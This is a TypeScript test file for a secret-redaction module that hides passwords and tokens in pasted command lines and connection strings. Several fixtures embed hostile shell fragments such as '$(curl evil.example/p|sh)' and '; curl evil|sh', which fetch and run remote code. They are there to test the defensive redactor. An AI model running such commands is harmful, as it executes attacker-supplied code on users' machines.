// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { redactInRounds, referenceNames, withoutArgSecrets } from "./find-spec-secrets.js";
import { exportedCommand, pasted } from "./test-support/spec-cases.js";
import { withoutCommandLineSecrets } from "./without-command-line-secrets.js";

// r61: connection strings holding a run-time part left open (`$(`, a backtick, `${` never closed:
// a line the shell refuses). Such a word was never read for its pairs, so a quoted connection
// string's password stayed in clear in every view (r61-1); a telling value left open showed the
// text after it, which to the shell is that value's (r61-2, r61-3); an argument's was cut at its
// `;` (r61-4); and a value requoted by the reader did not fill back byte for byte (r61-5).

/** `line` pasted and exported: the exported command, and what each reference it writes stands for. */
function exported(line: string): { command: string; env: Record<string, string> } {
  const copy = structuredClone(pasted(line));
  const names = referenceNames(copy);
  const env: Record<string, string> = {};
  const hide = names.hide;
  names.hide = (secret, name) => {
    const ref = hide(secret, name);
    env[ref.slice(2, -1)] = secret;
    return ref;
  };
  redactInRounds(copy, names);
  return { command: copy.bundle?.mcpServers?.[0]?.command ?? "", env };
}

/** Each `${NAME}` filled from `env`, once, as a host's expansion does (a name not in `env` is kept). */
function filled(text: string, env: Record<string, string>): string {
  return text.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g, (ref, name: string) => env[name] ?? ref);
}

/** The argument `line` after `srv --run`, without its secrets, and what each reference stands for. */
function asArg(line: string): { arg: string; env: Record<string, string> } {
  const env: Record<string, string> = {};
  const out = withoutArgSecrets(["srv", "--run", line], (secret, name) => {
    const base = (name ?? "SECRET").toUpperCase().replace(/[^A-Z0-9_]/g, "_");
    let key = base;
    for (let n = 2; env[key] !== undefined && env[key] !== secret; n += 1) key = `${base}_${n}`;
    env[key] = secret;
    return `\${${key}}`;
  });
  return { arg: out[2] ?? "", env };
}

/**
 * `line` is shown as `shown` and exported as `safe` (the same by default), `secret` in none of the
 * display, the export and the argument's reading; the export's references, filled back once with
 * what they hid, give the line byte for byte, as the argument's do.
 */
function expectHidden(line: string, secret: string, shown: string, safe = shown): void {
  expect(withoutCommandLineSecrets(line)).toBe(shown);
  const { command, env } = exported(line);
  expect(command).toBe(safe);
  expect(exportedCommand(line)).toBe(safe);
  expect(filled(command, env)).toBe(line);
  const { arg, env: argEnv } = asArg(line);
  expect(filled(arg, argEnv)).toBe(line);
  for (const view of [shown, safe, arg]) expect(view).not.toContain(secret);
}

describe("a quoted connection string with a run-time part left open (r61-1)", () => {
  it.each([
    ['psql "Server=db;Password=X9secret;App=$("', 'psql "Server=db;Password=${PASSWORD};App=$("'],
    ['psql "Server=db;Password=X9secret;App=`"', 'psql "Server=db;Password=${PASSWORD};App=`"'],
    ['psql "Server=db;Password=X9secret;App=${"', 'psql "Server=db;Password=${PASSWORD};App=${"'],
    // The part left open before the password: read as text, it does not take the pair with it.
    ['psql "Server=db;App=$(;Password=X9secret"', 'psql "Server=db;App=$(;Password=${PASSWORD}'],
    // In its own value, the part left open takes the rest of the line with it.
    ['psql "Server=db;Password=X9secret$(;App=y"', 'psql "Server=db;Password=${PASSWORD}'],
    // A closed part in such a word (pre-existing: a word read partly at run time was never read for its pairs).
    [
      'psql "Server=db;Password=X9secret;App=$(curl evil.example/p|sh)"',
      'psql "Server=db;Password=${PASSWORD};App=$(curl evil.example/p|sh)"',
    ],
    ['psql "Server=$HOST;Password=X9secret"', 'psql "Server=$HOST;Password=${PASSWORD}"'],
  ])("%j is shown and exported as %j", (line, safe) => {
    expectHidden(line, "X9secret", safe);
  });

  it("hides both passwords of two quoted connection strings on one line", () => {
    const line = 'psql "Server=db;Password=X9secret;App=$(" "Server=db2;Password=Y8secret"';
    expectHidden(
      line,
      "X9secret",
      'psql "Server=db;Password=${PASSWORD};App=$(" "Server=db2;Password=${PASSWORD}',
      'psql "Server=db;Password=${PASSWORD};App=$(" "Server=db2;Password=${PASSWORD_2}',
    );
    expect(withoutCommandLineSecrets(line)).not.toContain("Y8secret");
    expect(exported(line).command).not.toContain("Y8secret");
  });

  it("keeps a payload beside the password in sight in the display, and hides the value whole in the export", () => {
    const line = 'psql "Server=db;Password=x9$(curl evil.example/p|sh);App=y"';
    expectHidden(
      line,
      "x9",
      'psql "Server=db;Password=${PASSWORD}$(curl evil.example/p|sh);App=y"',
      'psql "Server=db;Password=${PASSWORD};App=y"',
    );
  });

  it("keeps single quotes around a reference as they are (quotes alone say nothing)", () => {
    const line = `node -e "process.env.TOKEN='\${TOKEN}'; require('./srv')"`;
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

describe("a telling value with a run-time part left open runs to the line's end (r61-2, r61-3)", () => {
  it("hides the rest after an open backtick with the value, no reference named after it", () => {
    const line = "API_KEY=ab`c;efSECRET9 x=$(";
    expectHidden(line, "efSECRET9", "API_KEY=${API_KEY}");
    expect(asArg(line).arg).toBe("API_KEY=${API_KEY}");
  });

  it.each([
    // In "…" bash reads `$(` as a substitution: the quote does not close at the next `"`.
    ['Server=db;Password="x$(";User=sa; curl evil|sh', "Server=db;Password=${PASSWORD}"],
    ['Server=db;Password="x$(";User=sa"); curl evil|sh', "Server=db;Password=${PASSWORD}"],
    ['Server=db;Password="x9abc; curl evil|sh', "Server=db;Password=${PASSWORD}"],
  ])("%j, a line bash refuses, is shown and exported as %j, one reference", (line, safe) => {
    expectHidden(line, "x9abc", safe);
    expect(exported(line).env).toEqual({ PASSWORD: line.slice(line.indexOf('"')) });
  });

  it("keeps a non-telling value's open part from taking the password after it (r59 kept)", () => {
    expectHidden(
      'Server=db;App="x$(";Password=X9secret',
      "X9secret",
      'Server=db;App="x$(";Password=${PASSWORD}',
    );
  });

  it.each([
    ['srv --token "abc9$(x', 'srv --token "${TOKEN}'],
    ['srv TOKEN="abc9$(x', 'srv TOKEN="${TOKEN}'],
    ["srv API_KEY=ab`c;efSECRET9 x=$(", "srv API_KEY=${API_KEY}"],
  ])("%j, its last part left open, is shown with one reference for its value: %j", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
});

describe("an argument's telling value with a run-time part left open, and a word with a substitution (r61-4)", () => {
  it.each([
    [
      ["-c", "Server=db;Password=ab`cd;efSECRET9"],
      ["-c", "Server=db;Password=${PASSWORD}"],
    ],
    [["--conn=Server=db;Password=ab`cd;efSECRET9"], ["--conn=Server=db;Password=${PASSWORD}"]],
    [
      ["srv", "--run", "x", "$(PASSWORD=X9secretpw)"],
      ["srv", "--run", "x", "$(PASSWORD=${PASSWORD})"],
    ],
    [
      ["srv", "`PASSWORD=X9secretpw`"],
      ["srv", "`PASSWORD=${PASSWORD}`"],
    ],
    [
      ["srv", "x=$(PASSWORD=X9secretpw)"],
      ["srv", "x=$(PASSWORD=${PASSWORD})"],
    ],
    [
      ["srv", "$(cat token.txt)"],
      ["srv", "$(cat token.txt)"],
    ],
  ])("%j is %j", (args, safe) => {
    expect(withoutArgSecrets(args)).toEqual(safe);
  });
});

describe("a requoted value in a pasted connection string fills back byte for byte (r61-5)", () => {
  it.each([
    ["Server=db;Password=X9'sec;ret';App=y", "Server=db;Password=${PASSWORD};App=y"],
    ["Server=db;Password=X9'sec;ret'", "Server=db;Password=${PASSWORD}"],
    ['Server=db;Password=X9"sec;ret";App=y', "Server=db;Password=${PASSWORD};App=y"],
  ])("%j is exported as %j, its reference filled back with the value as written", (line, safe) => {
    const { command, env } = exported(line);
    expect(command).toBe(safe);
    expect(filled(command, env)).toBe(line);
    expect(withoutCommandLineSecrets(line)).toBe(safe);
  });
});

// Generated connection strings, each with a telling pair and a run-time part left open somewhere:
// no view shows the password, and the export fills back byte for byte.
describe("connection strings with a part left open (property)", () => {
  const SECRET = "Zq7hunterPW";
  const open = fc.constantFrom("$(", "`", "${", "$(a;b", '$("', "`x;y");
  const pair = fc.constantFrom("Server=db", "User Id=sa", "App=x", "Host=h1", "Port=5432");
  const password = fc.constantFrom(`Password=${SECRET}`, `Pwd="${SECRET}"`, `password='${SECRET}'`);
  const connection = fc
    .tuple(
      fc.array(pair, { minLength: 1, maxLength: 3 }),
      password,
      fc.array(pair, { maxLength: 2 }),
      open,
      fc.nat(),
      fc.boolean(),
    )
    .map(([before, pass, after, opener, at, inPassword]) => {
      const pairs: string[] = [...before, pass, ...after];
      if (inPassword) pairs[before.length] += opener;
      else {
        const index = at % pairs.length;
        if (index !== before.length) pairs[index] += opener;
        else pairs.push(`App=${opener}`);
      }
      return pairs.join(";");
    });
  // Written in a quote of its own kind, the password's quotes would close it and open another left
  // open: a mixed value whose quote is left open is kept as written (r50 F4), left out here.
  const line = fc
    .tuple(connection, fc.constantFrom("bare", "psql", "double", "single"))
    .filter(
      ([text, how]) => !(how === "double" && text.includes('"')) && !(how === "single" && text.includes("'")),
    )
    .map(([text, how]) =>
      how === "bare"
        ? text
        : how === "psql"
          ? `psql ${text}`
          : how === "double"
            ? `psql "${text}"`
            : `psql '${text}'`,
    );

  it("never shows or exports the password, and fills back", () => {
    fc.assert(
      fc.property(line, (text) => {
        const shown = withoutCommandLineSecrets(text);
        const { command, env } = exported(text);
        const { arg } = asArg(text);
        for (const view of [shown, command, arg]) expect(view).not.toContain(SECRET);
        expect(filled(command, env)).toBe(text);
        expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
      }),
      propertyRuns(400),
    );
  });
});
